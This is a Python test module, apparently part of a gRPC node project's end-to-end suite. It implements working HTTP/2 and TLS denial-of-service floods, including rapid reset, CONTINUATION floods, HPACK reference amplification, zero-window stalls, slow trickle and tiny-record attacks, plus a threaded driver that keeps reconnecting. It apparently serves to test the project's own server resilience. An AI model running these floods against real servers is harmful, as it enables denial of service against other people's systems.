"""Floods over HTTP/2 and TLS below what a call is: each kind is what one connection says.

A kind is a function from a connection to a generator: at each step it sends something and yields
how many units that was. `flood` runs a kind over several connections at a time, opens again what
was closed, and counts. See `attacker.py` for how a flood is started.
"""

from __future__ import annotations

import ssl
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterator
from typing import Any, Final

from fednode.transports.exchange import DELIVER
from tests.e2e.attacks.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES,
    HEADERS,
    PING,
    RST,
    SETTINGS,
    WINDOW,
    Wire,
    frame,
    in_threads,
    literal,
    request,
    rest,
)
from tests.e2e.attacks.unfinished import surplus, unfinished, unfinished_pieces

CONNECTIONS: Final = 8
AGAIN_S: Final = 0.2
STREAM_MAX: Final = 2**30
HEALTH: Final = "/grpc.health.v1.Health/Check"
Kind = Callable[[Wire], Iterator[int]]


def repeated(one: bytes, times: int) -> Kind:
    """Return the kind that says the same again and again."""

    def say(wire: Wire) -> Iterator[int]:
        while True:
            wire.send(one * times)
            yield times

    return say


def calls(block: bytes, flags: int, more: Callable[[int], bytes], times: int) -> Kind:
    """Return the kind that begins calls: a header block each, and what `more` makes of a stream."""

    def say(wire: Wire) -> Iterator[int]:
        for stream in range(1, STREAM_MAX, 2 * times):
            numbers = range(stream, stream + 2 * times, 2)
            wire.send(b"".join(frame(HEADERS, flags, one, block) + more(one) for one in numbers))
            yield times

    return say


def many_fields(wire: Wire) -> Iterator[int]:
    """Send header lists of 2,000 fields."""
    block = request(DELIVER, [(b"x-%d" % number, b"y" * 100) for number in range(2000)])
    cuts = range(FRAME_BYTES, len(block), FRAME_BYTES)
    for stream in range(1, STREAM_MAX, 2):
        said = frame(HEADERS, 0, stream, block[:FRAME_BYTES])
        for cut in cuts:
            last = END_HEADERS if cut == cuts[-1] else 0
            said += frame(CONTINUATION, last, stream, block[cut : cut + FRAME_BYTES])
        wire.send(said)
        yield 1


def no_end_of_headers(wire: Wire) -> Iterator[int]:
    """Send one header block that never ends."""
    wire.send(frame(HEADERS, 0, 1, request(DELIVER)))
    more = frame(CONTINUATION, 0, 1, literal(b"x-a", b"y" * 16_000))
    while True:
        wire.send(more)
        yield 1


def references(wire: Wire) -> Iterator[int]:
    """Name one long field of the dynamic table 8,000 times in each header block (one byte each)."""
    stored = b"\x40" + literal(b"x-long", b"y" * 3000)[1:]
    block = request(DELIVER)
    for stream in range(1, STREAM_MAX, 2):
        again = b"\xbe" * 8000 if stream > 1 else stored
        wire.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block + again))
        yield 1


def no_window(wire: Wire) -> Iterator[int]:
    """Begin calls whose answers are never taken."""
    wire.send(frame(SETTINGS, payload=struct.pack(">HI", 4, 0)))
    for count in calls(request(DELIVER), END_HEADERS, lambda _: b"", 20)(wire):
        rest(0.1)
        yield count


def tiny_records(wire: Wire) -> Iterator[int]:
    """Send frames of no known kind, one byte in each TLS record."""
    one = frame(0xFA)
    while True:
        for number in one:
            wire.send(bytes((number,)))
        yield len(one)


def trickle(wire: Wire) -> Iterator[int]:
    """Begin a call and send a byte of it a second."""
    said = frame(HEADERS, END_HEADERS, 1, request(DELIVER)) + frame(DATA, 0, 1, bytes(4000))
    for number in said:
        wire.send(bytes((number,)))
        rest(1)
        yield 1


GARBAGE: Final = frame(DATA, END_STREAM, 0, b"\0\0\0\0\x04\x0a\x02zz")
EMPTY: Final = b"\0\0\0\0\0"
KINDS: Final[dict[str, Kind]] = {
    "ping": repeated(frame(PING, payload=b"12345678"), 100),
    "settings": repeated(frame(SETTINGS, payload=struct.pack(">HI", 4, 65_535)), 100),
    "window": repeated(frame(WINDOW, payload=struct.pack(">I", 1)), 200),
    "unknown-frames": repeated(frame(0xFA, payload=bytes(16_000)), 16),
    "reset": calls(
        request(DELIVER), END_HEADERS, lambda one: frame(RST, 0, one, struct.pack(">I", 8)), 50
    ),
    "fields": many_fields,
    "continuation": no_end_of_headers,
    "references": references,
    "no-window": no_window,
    "unknown-methods": calls(
        request("/no.such/Method"), END_HEADERS | END_STREAM, lambda _: b"", 20
    ),
    "health": calls(
        request(HEALTH), END_HEADERS, lambda one: frame(DATA, END_STREAM, one, EMPTY), 20
    ),
    "garbage": calls(
        request(DELIVER),
        END_HEADERS,
        lambda one: GARBAGE[:5] + struct.pack(">I", one) + GARBAGE[9:],
        20,
    ),
    "tiny-records": tiny_records,
    "trickle": trickle,
    "unfinished": unfinished,
    "surplus": surplus,
    "unfinished-pieces": unfinished_pieces,
}


def spin(end: float) -> None:
    """Burn the time of one processor: the control, an attacker that says nothing."""
    while time.monotonic() < end:
        sum(range(1000))


def flood(
    kind: Kind,
    address: str,
    context: Callable[[], ssl.SSLContext],
    seconds: float,
    source: str = "127.0.0.1",
) -> dict[str, Any]:
    """Run a kind over CONNECTIONS connections at a time; return what came of it."""
    tally, end = Counter[str](), time.monotonic() + seconds

    def attack() -> None:
        while time.monotonic() < end:
            try:
                wire = Wire(address, context(), source)
                tally["opened"] += 1
                try:
                    wire.begin()
                    for count in kind(wire):
                        tally["units"] += count
                        if not wire.heard:
                            wire.drain()
                        if time.monotonic() > end:
                            break
                finally:
                    wire.close()
            except OSError:
                tally["closed or refused"] += 1
                rest(AGAIN_S)

    in_threads(attack, CONNECTIONS, seconds)
    return dict(tally)
